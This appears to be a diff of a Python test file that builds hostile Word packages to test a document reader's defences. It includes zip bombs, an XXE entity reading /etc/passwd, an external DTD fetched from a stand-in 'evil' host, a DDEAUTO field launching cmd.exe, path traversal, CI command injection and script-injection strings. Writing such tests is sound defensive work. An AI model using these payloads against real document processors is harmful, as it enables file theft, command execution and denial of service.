@@ -8,6 +8,7 @@ import zipfile
 import zlib
 from collections.abc import Callable
 
+from tests.hostile.gets import READ
 from tests.read.test_docx_hostile import MAIN, replaced, rewritten, sound, swollen
 from tests.read.word import para
 
@@ -129,11 +130,11 @@ def headers(number: int) -> bytes:
 
 
 PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
-    "a zip bomb": (lambda: rewritten(lambda *file: file, bomb=b"\0" * 150_000_000), "trap"),
+    "a zip bomb": (lambda: rewritten(lambda *file: file, bomb=b"\0" * 150_000_000), "unpacks to a multiple"),
     "a zip in a zip in a zip": (lambda: matryoshka(5), "another zip archive"),
     "1,000 entries of the same bytes": (lambda: overlapping(1_000, 1_000_000), "MB allowed"),
     "100 entries of the same bytes": (lambda: overlapping(100, 900_000), "damaged"),
-    "100,000 entries": (lambda: crowded(100_000), "more than 10,000 files"),
+    "20,000 entries": (lambda: crowded(20_000), "more than 10,000 files"),
     "9,000 entries": (lambda: crowded(9_000), "damaged"),
     "text that lies about its size": (lying, "damaged"),
     "text that says it is 3 GB": (swollen, "MB allowed"),
@@ -144,22 +145,22 @@ PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
     "entities that multiply, in UTF-16": (lambda: hidden_declaration(LAUGHS, "&l9;"), "damaged"),
     "an entity that is a file, in UTF-16": (
         lambda: hidden_declaration('<!DOCTYPE w [<!ENTITY s SYSTEM "file:///etc/passwd">]>', "&s;"),
-        "",
+        READ,
     ),
     "a document type that is elsewhere, in UTF-16": (
-        lambda: hidden_declaration('<!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd">', ""),
-        "",
+        lambda: hidden_declaration('<!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd">', READ),
+        READ,
     ),
-    "links to files of the machine, names that climb": (outward, ""),
+    "links to files of the machine, names that climb": (outward, READ),
     "a field that runs a program": (
         lambda: body(
             '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p>'
         ),
-        "",
+        READ,
     ),
-    "macros": (lambda: rewritten(lambda *file: file, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}), ""),
-    "one part 20,000 times": (lambda: headers(20_000), ""),
-    "tables 20 deep": (lambda: body(ROWS * 20 + "<w:p/>" + ENDS * 20), ""),
+    "macros": (lambda: rewritten(lambda *file: file, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}), READ),
+    "one part 20,000 times": (lambda: headers(20_000), READ),
+    "tables 20 deep": (lambda: body(ROWS * 20 + "<w:p/>" + ENDS * 20), READ),
     "tables 500 deep": (lambda: body(ROWS * 500 + "<w:p/>" + ENDS * 500), "damaged"),
     "text boxes 60 deep": (
         lambda: body(
@@ -167,28 +168,28 @@ PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
             + "<w:p/>"
             + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>" * 40
         ),
-        "",
+        READ,
     ),
-    "a table of 100,000 cells": (
-        lambda: body("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 100 + "</w:tr>") * 1_000 + "</w:tbl><w:p/>"),
-        "",
+    "a table of 40,000 cells": (
+        lambda: body("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 100 + "</w:tr>") * 400 + "</w:tbl><w:p/>"),
+        READ,
     ),
-    "100,000 paragraphs": (lambda: body(para("Welded a bridge") * 100_000), "more text"),
-    "100,000 runs in a paragraph": (lambda: body(f"<w:p>{'<w:r><w:t>x </w:t></w:r>' * 100_000}</w:p>"), ""),
+    "30,000 paragraphs": (lambda: body(para("Welded a bridge") * 30_000), "more text"),
+    "50,000 runs in a paragraph": (lambda: body(f"<w:p>{'<w:r><w:t>x </w:t></w:r>' * 50_000}</w:p>"), "4,000 letters"),
     "a word of 5,000,000 letters": (lambda: uttered("x" * 5_000_000), "more text"),
     "1,000,000 attributes": (
         lambda: body("<w:p " + " ".join(f'w:a{n}="1"' for n in range(300_000)) + "/>"),
-        "",
+        READ,
     ),
     "a list with a billionth level": (
         lambda: body(para("x", '<w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="999999999"/></w:numPr>')),
-        "",
+        READ,
     ),
     "terminal codes, marks that turn text round": (
         lambda: uttered("Welded &#x202E;segdirb&#x202C; &#x9b;31m and &#x2066;more&#x2069;\u200b\ufeff"),
-        "",
+        READ,
     ),
-    "commands to a CI system": (lambda: uttered("::error::owned and ##vso[task.setvariable]x ::set-output::y"), ""),
-    "HTML": (lambda: uttered("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"), ""),
+    "commands to a CI system": (lambda: uttered("::error::owned and ##vso[task.setvariable]x ::set-output::y"), READ),
+    "HTML": (lambda: uttered("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"), READ),
 }
-"""By what it is: the file, and words of the sentence that refuses it; empty where it is read."""
+"""By what it is: the file, and words of the sentence that refuses it, or how it is read."""
